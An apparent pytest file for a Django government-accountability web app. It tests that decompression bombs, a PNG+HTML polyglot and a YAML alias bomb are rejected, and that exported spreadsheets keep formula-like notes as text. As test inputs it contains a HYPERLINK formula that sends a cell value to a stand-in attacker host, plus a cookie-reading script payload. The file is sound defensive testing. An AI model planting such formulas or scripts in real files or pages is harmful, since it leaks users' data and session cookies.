"""Issue 27: berkas kecil yang berbahaya lewat halaman sungguhan. Bom dekompresi (XLSX realisasi,
lembar LKE, DOCX laporan tercetak) ditolak dengan satu kalimat Indonesia dalam satu-dua detik tanpa
memori berarti di proses ini; poliglot PNG+HTML bukan bukti dukung; catatan berumus keluar sebagai
teks di templat realisasi dan lke.xlsx; templat LKE berisi bom alias ditolak."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from sakip.evaluation import services as evaluasi
from sakip.evaluation.models import TemplatLKE
from sakip.measurement.models import BuktiDukung, Indikator
from sakip.organisations.models import Peran
from tests.berkas.bom import docx_bom, xlsx_bom, yaml_bom
from tests.berkas.test_batas import dalam_batas
from tests.berkas_contoh import gambar_kecil
from tests.conftest import pengguna
from tests.demo_cepat import muat_demo

pytestmark = pytest.mark.django_db
RUMUS = '=HYPERLINK("http://penyerang.example/?x="&B5,"bukti")'


@pytest.fixture
def operator(client, db):
    muat_demo()
    client.login(username="operator.disnaker", password="sakip-demo-2022")
    return client


def _galat(resp) -> list[str]:
    return list(resp.context["galat"])


def test_realisasi_workbook_bomb_refused_quickly_in_one_sentence(operator):
    url = "/opd/disnaker-denpasar/2022/excel/"
    bom = SimpleUploadedFile("isian.xlsx", xlsx_bom())
    with dalam_batas(detik=3, mb=60):
        resp = operator.post(url, {"berkas": bom})
    (galat,) = _galat(resp)
    assert galat.startswith("Berkas 'isian.xlsx' ditolak:") and "mengembang" in galat
    assert not any(k.startswith("excel") for k in operator.session.keys())


def test_lke_worksheet_bomb_refused(client, klungkung):
    op = pengguna("op", Peran.OPERATOR_OPD, klungkung)
    ev = evaluasi.mulai_evaluasi(klungkung, 2024, op)
    client.force_login(op)
    url = reverse("web:evaluasi_unggah", kwargs={"slug": klungkung.slug, "tahun": 2024})
    with dalam_batas(detik=3, mb=60):
        resp = client.post(url, {"berkas": SimpleUploadedFile("lke.xlsx", xlsx_bom("LKE"))})
    (galat,) = _galat(resp)
    assert "ditolak" in galat and "mengembang" in galat
    assert not ev.jawaban.exclude(mandiri="").exists()


def test_printed_report_docx_bomb_refused(client, klungkung):
    from sakip.review.models import LaporanTercetak

    client.force_login(pengguna("insp", Peran.INSPEKTORAT, klungkung))
    url = reverse("web:laporan_daftar", kwargs={"slug": klungkung.slug, "tahun": 2024})
    with dalam_batas(detik=3, mb=60):
        resp = client.post(url, {"berkas": SimpleUploadedFile("lkjip.docx", docx_bom())})
    html = resp.content.decode()
    assert resp.status_code == 400 and "Berkas &#x27;lkjip.docx&#x27; ditolak" in html
    assert not LaporanTercetak.objects.exists()


def test_png_followed_by_html_is_not_evidence(operator, settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    tpt = Indikator.objects.get(opd__slug="disnaker-denpasar", kode="T1-1")
    operator.post(
        "/opd/disnaker-denpasar/2022/realisasi/tw4/",
        {f"p-{tpt.id}": "30.000", f"q-{tpt.id}": "400.000"},
    )
    burl = f"/opd/disnaker-denpasar/2022/realisasi/tw4/bukti/{tpt.id}/"
    poliglot = gambar_kecil("PNG") + b"<html><script>alert(document.cookie)</script></html>"
    resp = operator.post(burl, {"berkas": SimpleUploadedFile("a.png", poliglot)}, follow=True)
    assert "diawali tanda gambar PNG tetapi isinya bukan gambar PNG yang utuh" in (
        resp.content.decode()
    )
    assert not BuktiDukung.objects.exists()
    resp = operator.post(burl, {"berkas": SimpleUploadedFile("a.png", gambar_kecil())}, follow=True)
    assert BuktiDukung.objects.get().jenis == "png"


def test_a_formula_note_comes_out_of_the_realisasi_template_as_text(operator):
    tpt = Indikator.objects.get(opd__slug="disnaker-denpasar", kode="T1-1")
    operator.post(
        "/opd/disnaker-denpasar/2022/realisasi/tw4/",
        {f"p-{tpt.id}": "30.000", f"q-{tpt.id}": "400.000", f"c-{tpt.id}": RUMUS},
    )
    data = operator.get("/opd/disnaker-denpasar/2022/excel/templat.xlsx").content
    ws = openpyxl.load_workbook(io.BytesIO(data))["Realisasi Indikator"]
    sel = [c for row in ws.iter_rows() for c in row if c.value == RUMUS]
    assert sel and all(c.data_type == "s" for c in sel)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.endswith(".xml"))


def test_a_formula_note_comes_out_of_lke_xlsx_as_text(client, klungkung):
    op = pengguna("op", Peran.OPERATOR_OPD, klungkung)
    ev = evaluasi.mulai_evaluasi(klungkung, 2024, op)
    j = ev.jawaban.first()
    j.mandiri_catatan = RUMUS
    j.save()
    client.force_login(op)
    data = client.get(
        reverse("web:evaluasi_xlsx", kwargs={"slug": klungkung.slug, "tahun": 2024})
    ).content
    ws = openpyxl.load_workbook(io.BytesIO(data))["LKE"]
    sel = [c for row in ws.iter_rows() for c in row if c.value == RUMUS]
    assert sel and all(c.data_type == "s" for c in sel)


def test_lke_template_with_an_alias_bomb_is_refused(client, klungkung):
    admin = pengguna("admin", Peran.ADMIN_PEMDA, klungkung)
    client.force_login(admin)
    url = reverse("web:evaluasi_templat", kwargs={"slug": klungkung.pemda.slug})
    teks = "format: sakip/lke 1\n" + yaml_bom()
    # tanpa batas, bom ini butuh berjam-jam dan bergiga-giga; 10 detik memberi ruang CI yang sibuk
    with dalam_batas(detik=10, mb=60):
        resp = client.post(
            url, {"berkas": SimpleUploadedFile("lke.yaml", teks.encode()), "catatan": "x"}
        )
    (galat,) = _galat(resp)
    assert "bom alias" in galat
    assert not TemplatLKE.objects.filter(pemda=klungkung.pemda).exists()
    assert get_user_model().objects.filter(username="admin").exists()
